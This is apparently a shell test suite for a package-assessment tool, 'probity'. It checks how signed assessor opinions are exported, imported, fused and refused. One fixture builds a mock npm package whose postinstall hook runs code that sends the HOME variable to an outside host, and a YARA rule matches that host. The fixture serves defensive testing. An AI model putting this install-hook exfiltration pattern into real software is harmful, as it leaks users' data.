# probity opinion: opinions go out signed, come in once from assessors, and are fused; replays, strangers and one's own do not count.
. tests/tap.sh
export HOME=$scratch/home
cd "$scratch" || exit 1
mkdir -p home trust prod own
printf '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"node index.js"}}\n' >prod/package.json
printf "require('https').get('http://collect.vendor-host.net/v1?' + process.env.HOME);\n" >prod/index.js
scan prod && printf '%s\n' "$out" >mine.json
scan --as-of 2026-11-20 prod && printf '%s\n' "$out" >before.json
printf 'rule own_rule { strings: $a = "collect.vendor-host" condition: $a }\n' >own/own.yar
scan --rules own prod && printf '%s\n' "$out" >other.json
digest=$(get 'r["product"]["sha256"]')
for who in ann bob eve me; do "$PROBITY" pack key new -W -s $who.key -p $who.pub >/dev/null; done
"$PROBITY" trust add ann.pub --role assessor --trust trust --name ann
"$PROBITY" trust add bob.pub --role assessor --trust trust --name bob
"$PROBITY" trust add eve.pub --role vendor --trust trust --name eve
"$PROBITY" trust add me.pub --role assessor --trust trust --name me
export_() { "$PROBITY" opinion export "$1" --key "$2.key" --folder "out-$2" -o "$3"; }
take() { run "$PROBITY" opinion import "$1" --trust trust --folder kept --as-of 2026-11-21 "${@:2}"; }
see() { run "$PROBITY" opinion show "$@" --folder kept --as-of 2026-11-21 -f json; }
ok "ann says something" export_ mine.json ann ann.json
ok "bob, by other rules" export_ other.json bob bob.json
ok "ann, the day before" export_ before.json ann ann-before.json
ok "eve, a vendor" export_ mine.json eve eve.json
payload=$(/usr/bin/python3 -c 'import base64, json; print(base64.b64decode(json.load(open("ann.json"))["payload"]).decode())')
is "nothing of the product leaves" "$(grep -cE 'index.js|twin|vendor-host|postinstall' <<<"$payload")" 0
out=$payload
is "... but this" "$(get 'sorted(r)')" '["as_of", "assessor", "claims", "digest", "method", "opinion", "schema", "valid_until"]'
is "each opinion adds up" "$(get 'all(c["opinion"]["b"] + c["opinion"]["d"] + c["opinion"]["u"] == 10**9 for c in r["claims"] + [r])')" true
see "$digest"
is "nobody has said anything yet" "$rc" 2
take ann.json
is "an assessor's is kept" "$rc" 0
take ann.json
is "a replay is refused" "$rc" 2
like "... as such" "$err" "a replay"
take ann-before.json
is "an older one is, too" "$rc" 2
like "... as such" "$err" "a replay"
take eve.json
is "a vendor's is refused" "$rc" 2
like "... as such" "$err" "assessor"
see "$digest"
is "one who is trusted in full: as he says" "$(get 'r["opinion"]["b"] + r["opinion"]["d"] > 0 and len(r["assessors"]) == 1')" true
alone=$(get 'r["opinion"]["u"]')
see mine.json
is "by the same rules: averaged, no surer" "$(get "[abs(r['opinion']['u'] - $alone) < 4, sorted({a['how'] for a in r['assessors']})]")" '[true, ["averaged"]]'
take bob.json --weight 50,0,50,50
is "another one's, in whom trust is less" "$rc" 0
see "$digest"
is "by other rules: cumulated, surer" "$(get "[r['opinion']['u'] < $alone, sorted({a['how'] for a in r['assessors']})]")" '[true, ["cumulated"]]'
is "claims are fused one by one" "$(get 'all(c["opinion"]["b"] + c["opinion"]["d"] + c["opinion"]["u"] == 10**9 and 1 <= c["counted"] <= 2 for c in r["claims"])')" true
first=$out
see "$digest"
is "the same bytes again" "$out" "$first"
run "$PROBITY" opinion show "$digest" --folder kept --as-of 2036-11-21 -f json
is "expired ones do not count, and are told" "$(get '[r["assessors"], len(r["left_out"])]')" '[[], 2]'
ok "my own" "$PROBITY" opinion export mine.json --key me.key --folder kept -o me.json
take me.json
is "... does not come back" "$rc" 2
like "... as such" "$err" "your own"
sed 's/"trust_tenths":[0-9]*/"trust_tenths":1000/' mine.json >lie.json
status "a report that does not hold is no opinion" 2 "$PROBITY" opinion export lie.json --key ann.key --folder out-ann -o lie-out.json
like "... as such" "$err" "does not hold"
/usr/bin/python3 -c 'import json; e = json.load(open("ann.json")); e["payload"] = "AAAA" + e["payload"][4:]; json.dump(e, open("bad.json", "w"))'
take bad.json
is "what was changed is refused" "$rc" 2
run "$PROBITY" opinion show mine.json --folder kept --as-of 2026-11-21
like "in words" "$out" "uncertain"
status "help" 0 "$PROBITY" opinion --help
status "no verb" 2 "$PROBITY" opinion

# Reports that assessors signed: the findings of all, each once.
"$PROBITY" sign other.json --key bob.key -o bob.dsse 2>/dev/null
"$PROBITY" sign mine.json --key ann.key -o ann.dsse 2>/dev/null
"$PROBITY" sign other.json --key eve.key -o eve.dsse 2>/dev/null
all() { run "$PROBITY" opinion show "$@" --trust trust --folder none --as-of 2026-11-23 -f json; }
keys='sorted((f["check"], f["key"], f["kappa"]) for f in r["union"]["findings"])'
count() { /usr/bin/python3 -c 'import json, sys; print(len(json.load(open(sys.argv[1]))["findings"]))' "$1"; }
all mine.json ann.dsse
is "the same report twice: nothing counts twice" "$rc $(get '[len(r["union"]["findings"]), r["union"]["trust_tenths"] == r["union"]["own_trust_tenths"]]')" "0 [$(count mine.json), true]"
all mine.json bob.dsse ann.dsse
is "by other rules: what they found besides, under its check" "$rc $(get '[f["key"] for f in r["union"]["findings"] if f["check"] == "rules.own"]')" '0 ["rules/own/own.yar:own_rule"]'
is "... all others once" "$(get 'len(r["union"]["findings"])')" "$(($(count mine.json) + 1))"
is "... by whom" "$(get '[(x["root"], len(x["rules_digest"])) for x in r["union"]["reports"]]')" '[["bob", 64], ["ann", 64]]'
union=$(get "[$keys, r['union']['trust_tenths']]")
is "... trust does not rise" "$(get 'r["union"]["trust_tenths"] <= r["union"]["own_trust_tenths"]')" true
all other.json ann.dsse
is "the other way round: the same" "$(get "[$keys, r['union']['trust_tenths']]")" "$union"
mkdir -p strong/own
printf 'rule own_rule { meta: confidence = 90 severity = "high" strings: $a = "collect.vendor-host" condition: $a }\n' >strong/own/own.yar
scan --rules strong/own prod && printf '%s\n' "$out" >strong.json
"$PROBITY" sign strong.json --key ann.key -o strong.dsse 2>/dev/null
all other.json strong.dsse
is "one key, two kappas: the larger" "$rc $(get '[f["kappa"] for f in r["union"]["findings"] if f["check"] == "rules.own"]')" "0 [700]"
ok "... and the score follows" test "$(get 'r["union"]["own_trust_tenths"] - r["union"]["trust_tenths"]')" -gt 0
all strong.json bob.dsse
is "... from the other side as well" "$rc $(get '[f["kappa"] for f in r["union"]["findings"] if f["check"] == "rules.own"]')" "0 [700]"
all mine.json eve.dsse
like "a vendor's report does not count" "$rc $err" "^2 .*eve.dsse: no trust root with the role assessor"
all "$digest" ann.dsse
like "without one's own there is no policy to score by" "$rc $err" "^2 .*your own report is wanted"
printf 'x' >>prod/index.js
scan prod && printf '%s\n' "$out" >changed.json
"$PROBITY" sign changed.json --key ann.key -o changed.dsse 2>/dev/null
all mine.json changed.dsse
like "another product's is refused" "$rc $err" "^2 .*changed.dsse: it is about another product"
"$PROBITY" sign lie.json --key ann.key -o lie.dsse 2>/dev/null
all mine.json lie.dsse
like "one that does not hold is refused" "$rc $err" "^2 .*lie.dsse: the report does not hold"
run "$PROBITY" opinion show mine.json bob.dsse --trust trust --folder none --as-of 2026-11-23
like "in words" "$rc $out" "^0 .*Findings of all, each once: trust .*report of bob .*own_rule"
done_testing
